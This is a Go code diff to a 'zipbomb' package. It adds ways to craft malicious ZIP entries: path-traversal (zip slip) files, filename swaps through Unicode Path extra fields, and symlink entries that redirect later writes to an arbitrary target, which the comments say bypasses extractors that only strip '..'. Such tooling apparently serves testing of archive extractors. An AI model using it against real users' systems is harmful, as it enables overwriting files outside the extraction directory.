@@ -1,14 +1,33 @@
 package zipbomb
 
-import "io/fs"
+import (
+	"io/fs"
+	"path"
+	"time"
+)
 
 type ZipSlipOptions struct {
 	Method           uint16
 	CompressionLevel int // Deflate [-2,9]
 	FileMode         fs.FileMode
+	Comment          string
+
+	// UnicodePath is stored in an Info-ZIP Unicode Path extra field and
+	// replaces the filename in readers that support it.
+	UnicodePath    string
+	DataDescriptor DataDescriptor
+
+	// Modified is the modification time of the entry.
+	Modified time.Time
+
+	// Extra is appended to the extra fields of the entry, e.g. owner and
+	// timestamps built with UnixOwnerExtra and ExtendedTimestampExtra.
+	Extra []byte
+
+	EncryptionOptions
 }
 
-func (zb *ZipBomb) AddZipSlip(kernelBytes []byte, filename string, optFns ...func(o *ZipSlipOptions)) error {
+func (zb *ZipBomb) AddZipSlip(kernel Kernel, filename string, optFns ...func(o *ZipSlipOptions)) error {
 	opts := ZipSlipOptions{
 		CompressionLevel: 5,
 		Method:           Deflate,
@@ -18,20 +37,34 @@ func (zb *ZipBomb) AddZipSlip(kernelBytes []byte, filename string, optFns ...fun
 		fn(&opts)
 	}
 
-	k, err := newKernel(filename, kernelBytes, opts.Method, opts.CompressionLevel)
+	k, err := zb.newKernel(filename, kernel, opts.Method, opts.CompressionLevel)
 	if err != nil {
 		return err
 	}
 
+	lfh := k.LocalFileHeader()
+	lfh.Comment = opts.Comment
+
+	if opts.UnicodePath != "" {
+		lfh.Extra = append(lfh.Extra, unicodePathExtra(filename, opts.UnicodePath)...)
+	}
+
 	if opts.FileMode != 0 {
-		lfh := k.LocalFileHeader()
 		lfh.SetMode(opts.FileMode)
 	}
 
+	if !opts.Modified.IsZero() {
+		lfh.ModifiedDate, lfh.ModifiedTime = timeToMsDosTime(opts.Modified)
+	}
+
+	lfh.Extra = append(lfh.Extra, opts.Extra...)
+
 	files := []fileRecord{
 		{
-			header: k.LocalFileHeader(),
-			data:   k.CompressedBytes(),
+			header:         k.LocalFileHeader(),
+			data:           k.Data(),
+			dataDescriptor: opts.DataDescriptor,
+			encryption:     opts.EncryptionOptions,
 		},
 	}
 
@@ -39,3 +72,49 @@ func (zb *ZipBomb) AddZipSlip(kernelBytes []byte, filename string, optFns ...fun
 
 	return zb.writeFiles(files)
 }
+
+// AddSymlink adds a symlink entry with the given name that points to target.
+func (zb *ZipBomb) AddSymlink(name, target string, optFns ...func(o *ZipSlipOptions)) error {
+	// copy the options, appending could overwrite the array of the caller
+	symlinkFns := append(append([]func(o *ZipSlipOptions){}, optFns...), func(o *ZipSlipOptions) {
+		o.FileMode = o.FileMode.Perm() | fs.ModeSymlink
+		if o.FileMode.Perm() == 0 {
+			o.FileMode |= 0777
+		}
+	})
+
+	return zb.AddZipSlip(BytesKernel(target), name, symlinkFns...)
+}
+
+// AddSymlinkWrite adds a symlink entry for the directory of filename that
+// points to target, followed by a file entry that is written through the
+// symlink. Extractors that sanitize ".." but follow symlinks write the file to
+// target. The symlink entry gets only the method, the compression level, the
+// data descriptor and the modification time of the options, so a comment,
+// extra fields or encryption apply to the file entry alone.
+func (zb *ZipBomb) AddSymlinkWrite(kernel Kernel, filename, target string, optFns ...func(o *ZipSlipOptions)) error {
+	link := path.Dir(filename)
+	if link == "." || link == "/" {
+		return errSymlinkWrite
+	}
+
+	opts := ZipSlipOptions{
+		CompressionLevel: 5,
+		Method:           Deflate,
+	}
+
+	for _, fn := range optFns {
+		fn(&opts)
+	}
+
+	if err := zb.AddSymlink(link, target, func(o *ZipSlipOptions) {
+		o.Method = opts.Method
+		o.CompressionLevel = opts.CompressionLevel
+		o.DataDescriptor = opts.DataDescriptor
+		o.Modified = opts.Modified
+	}); err != nil {
+		return err
+	}
+
+	return zb.AddZipSlip(kernel, filename, optFns...)
+}